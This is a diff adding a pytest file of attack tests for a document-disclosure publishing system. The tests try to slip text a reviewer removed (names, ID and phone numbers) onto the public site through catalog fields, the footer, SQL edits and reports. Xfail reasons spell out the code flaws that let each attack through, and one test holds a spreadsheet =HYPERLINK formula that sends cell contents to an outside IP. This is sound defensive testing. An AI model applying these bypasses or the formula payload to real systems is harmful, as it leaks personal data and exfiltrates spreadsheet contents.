@@ -1,0 +1,263 @@
+"""Attacks on the catalog fields of issue 16 and on the text written after review: each test tries to
+get text the reviewer removed (or no reviewer saw) onto a public target or into a file the desk hands
+out, through a field the publisher completes at publishing (内容概述, 发布机构, 主题分类, 主题词), the
+amending document of 已修改, the site footer, or a report. Each asserts the correct behaviour; those
+marked xfail are working attacks, their reason says how the text gets out."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+
+import pytest
+from sqlalchemy import update
+
+from app import documents, site_footer, users
+from app.catalog import change_validity, publish_to_catalog, update_static_site
+from app.checking import check_document, latest_run
+from app.db.models import CatalogEntry, User
+from app.errors import PermissionDenied
+from app.reviewing import Conclusion, decide
+from app.roles import Role
+from app.workflow import Action, perform
+from publish.catalog import Validity
+from publish.taxonomy import LegalBasis
+from tests.conftest import PASSWORD, submit_draft
+from tests.test_catalog_fields import approved
+from tests.test_release import ID_NUMBER, _approve, _remove_everything, _site_text, _submitted
+
+NAME = "李明"  # the name the reviewer removes from tests.test_release.NOTICE
+
+
+def _published(workspace, people, tmp_path, doc_id, **completed) -> str | None:
+    """Publishes the approved document with what the publisher completed; the site's text, or None
+    when publishing refused (the correct outcome for every attack here)."""
+    try:
+        publish_to_catalog(workspace.db, people.publisher, doc_id, None, **completed)
+    except Exception:
+        return None
+    site = tmp_path / "site"
+    update_static_site(workspace.db, site)
+    return _site_text(site)
+
+
+FINANCIAL_DIGITS = str.maketrans("0123456789", "零壹贰叁肆伍陆柒捌玖")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="app/releases.py _fold drops only categories C/Z/Mn/Me and maps 〇一二…: a middle dot (Po), "
+    "a Hangul filler (Lo, default-ignorable, drawn as nothing) or 大写 numerals 壹贰叁 inside the removed "
+    "text pass _contains, and no rule reads them",
+)
+@pytest.mark.parametrize(
+    ("field", "disguise", "context"),
+    [
+        ("summary", f"{NAME[0]}·{NAME[1]}", "{}违纪问题的处理情况"),
+        ("publisher", f"{NAME[0]}\u3164{NAME[1]}", "测试市数据局（{}专案组）"),
+        ("summary", ID_NUMBER.translate(FINANCIAL_DIGITS), "当事人证件号码{}"),
+    ],
+    ids=["middle-dot-in-summary", "hangul-filler-in-publisher", "financial-numerals-in-summary"],
+)
+def test_attack_removed_text_in_a_disguise_that_reads_the_same_at_publishing(
+    workspace, people, tmp_path, field, disguise, context
+):
+    doc_id = _submitted(workspace, people, tmp_path)
+    _remove_everything(workspace, people, doc_id)
+    _approve(workspace, people, doc_id)
+    text = _published(workspace, people, tmp_path, doc_id, **{field: context.format(disguise)})
+    assert text is None or disguise not in text, f"{disguise!r} went out in 目录字段 {field}"
+
+
+MOBILE = "13912345678"
+COMPLAINT = f"""关于群众反映供暖问题的处理情况通报
+
+各科室：
+群众王某反映小区供暖不达标，联系电话{MOBILE}。经核查，供热公司已完成整改。
+望各单位严格落实供暖保障工作要求，确保群众温暖过冬。
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the reviewer masked the mobile number; written 139-1234-5678 at publishing, releases._contains "
+    "misses it (a hyphen is not folded) and the engine's PII-MOBILE finding is only a WARNING, which "
+    "_amend/field_problems let through",
+)
+def test_attack_masked_mobile_number_comes_back_with_hyphens_at_publishing(workspace, people, tmp_path):
+    doc_id = _submitted(workspace, people, tmp_path, COMPLAINT)
+    with workspace.db.write() as s:
+        reviewer = s.get_one(User, people.reviewer)
+        (finding,) = [f for f in latest_run(s, doc_id).findings if f.rule_id == "PII-MOBILE"]
+        assert finding.text == MOBILE
+        decide(s, reviewer, finding.id, "mask", basis=LegalBasis.THIRD_PARTY_RIGHTS)
+    _approve(workspace, people, doc_id)
+    text = _published(workspace, people, tmp_path, doc_id, summary="反映人王某，联系电话139-1234-5678。")
+    assert text is None or "139-1234-5678" not in text
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="text written at publishing meets no reviewer, yet _amend refuses only BLOCKING findings: "
+    "a 15-digit ID number (PII-ID15), a mobile number (PII-MOBILE) and 艾滋病 (lexicon 警告) go out "
+    "in 内容概述 undecided",
+)
+def test_attack_warnings_in_text_written_after_review_go_out_undecided(
+    workspace, people, sample_files, tmp_path
+):
+    doc_id = approved(workspace, people, sample_files["clean"])
+    old_id = "110101900307123"
+    summary = f"反映人张某（身份证号{old_id}，手机{MOBILE}）系艾滋病患者。"
+    text = _published(workspace, people, tmp_path, doc_id, summary=summary)
+    assert text is None or (old_id not in text and MOBILE not in text)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="amended_by (已修改's document) is entry state, not in the release: "
+    "releases.entry_differences cannot compare it, so an SQL edit after change_validity's check "
+    "is printed on the entry page by update_static_site (and sent by site_entry to the portal)",
+)
+def test_attack_sql_edit_of_the_amending_document_reaches_the_site(workspace, people, sample_files, tmp_path):
+    doc_id = approved(workspace, people, sample_files["clean"], normative=True)
+    entry = publish_to_catalog(workspace.db, people.publisher, doc_id, None)
+    change_validity(
+        workspace.db,
+        people.publisher,
+        entry.index_no,
+        Validity.AMENDED,
+        amended_on=dt.date.today(),
+        amended_by="示政规〔2027〕1号",
+    )
+    with workspace.db.write() as s:
+        s.execute(
+            update(CatalogEntry)
+            .where(CatalogEntry.id == entry.id)
+            .values(amended_by=f"{NAME}（身份证号{ID_NUMBER}）")
+        )
+    site = tmp_path / "site"
+    try:
+        update_static_site(workspace.db, site)
+    except Exception:
+        return  # refusing the tampered entry is the correct outcome
+    assert ID_NUMBER not in _site_text(site)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="app/releases.reviewed_texts reads only the latest review's check run: a name the reviewer "
+    "removed, then returned the draft to have rewritten, is no longer a removed text once the clean "
+    "revision is approved, and the publisher writes it into 内容概述",
+)
+def test_attack_text_removed_before_a_return_comes_back_at_publishing(workspace, people, tmp_path):
+    doc_id = _submitted(workspace, people, tmp_path)
+    _remove_everything(workspace, people, doc_id)
+    with workspace.db.write() as s:
+        perform(
+            s,
+            s.get_one(User, people.reviewer),
+            doc_id,
+            Action.RETURN,
+            expected_version=None,
+            reason="请删去当事人姓名和身份证号后重新提交",
+        )
+    clean = tmp_path / "通报（修改稿）.txt"
+    clean.write_text(
+        "关于违纪问题的处理通报\n\n各科室：\n经查，有关人员在2026年供暖保障工作中违反廉洁纪律，已作出深刻检讨。\n"
+        "望各单位引以为戒，严格落实供暖保障工作要求，确保群众温暖过冬。\n",
+        encoding="utf-8",
+    )
+    with workspace.db.write() as s:
+        clerk = s.get_one(User, people.clerk)
+        documents.revise(s, clerk, doc_id, None, documents.prepare(clean))
+        submit_draft(s, clerk, doc_id)
+    check_document(workspace.db, None, doc_id, workspace.paths.cache_dir)
+    _approve(workspace, people, doc_id, Conclusion.DISCLOSE)  # nothing left to remove
+    text = _published(workspace, people, tmp_path, doc_id, summary=f"{NAME}同志违纪问题的处理情况")
+    assert text is None or NAME not in text
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="app/site_footer.set_footer checks only lengths: the footer, printed on every page of the site, "
+    "is the one text leaving the desk that meets no lexicon",
+)
+def test_attack_a_lexicon_term_in_the_site_footer_is_printed_on_every_page(
+    workspace, people, sample_files, tmp_path
+):
+    doc_id = approved(workspace, people, sample_files["clean"])
+    publish_to_catalog(workspace.db, people.publisher, doc_id, None)
+    contact = "内部资料索取：13912345678"
+    with workspace.db.write() as s:
+        try:
+            site_footer.set_footer(s, s.get_one(User, people.admin), contact=contact)
+        except Exception:
+            return  # refused: the correct outcome
+    site = tmp_path / "site"
+    update_static_site(workspace.db, site)
+    assert "内部资料" not in _site_text(site)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="publish/review_summary.py to_xlsx/to_csv write the clerk's 信息名称 as it is: a title starting "
+    "with = is a live formula in the 保密审查汇总表 the 保密办 opens (publish/report.py _cell neutralises, "
+    "this export does not)",
+)
+def test_attack_a_title_becomes_a_live_formula_in_the_review_summary():
+    from openpyxl import load_workbook
+
+    from publish.review_summary import ReviewSummary, SummaryRow, to_csv, to_xlsx
+
+    title = '=HYPERLINK("http://203.0.113.9/?q="&C4,"关于做好冬季供暖保障工作的通知")'
+    row = SummaryRow(
+        review_number="保审〔2026〕1号",
+        title=title,
+        doc_number="",
+        clerk="经办甲",
+        reviewer="审查丙",
+        reviewed_on="2026-11-10",
+        conclusion="同意公开",
+        blocking=0,
+        warnings=0,
+        notes=0,
+        removed=0,
+        masked=0,
+        disclosure="主动公开",
+    )
+    summary = ReviewSummary(department="测试市数据局", year=2026, month=11, rows=(row,))
+    sheet = load_workbook(io.BytesIO(to_xlsx(summary))).active
+    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
+    csv_cells = to_csv(summary).decode("utf-8-sig").splitlines()[2].split(",")
+    assert formulas == [] and not any(c.lstrip('"').startswith("=") for c in csv_cells)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="app/catalog.change_validity checks the publisher role but not the department (withdraw_entry "
+    "checks both): another department's publisher marks the entry 已修改 and his 修改文件 goes out on it",
+)
+def test_attack_another_departments_publisher_amends_an_entry(workspace, people, sample_files):
+    doc_id = approved(workspace, people, sample_files["clean"], normative=True)
+    entry = publish_to_catalog(workspace.db, people.publisher, doc_id, None)
+    with workspace.db.write() as s:
+        admin = s.get_one(User, people.admin)
+        other = s.get_one(User, people.outsider_reviewer).department
+        stranger = users.create_user(
+            s,
+            admin,
+            login="finance-publisher",
+            display_name="财政发布",
+            password=PASSWORD,
+            roles=[Role.PUBLISHER],
+            department=other,
+        ).id
+    with pytest.raises(PermissionDenied):
+        change_validity(
+            workspace.db,
+            stranger,
+            entry.index_no,
+            Validity.AMENDED,
+            amended_on=dt.date.today(),
+            amended_by="示财规〔2027〕9号",
+        )
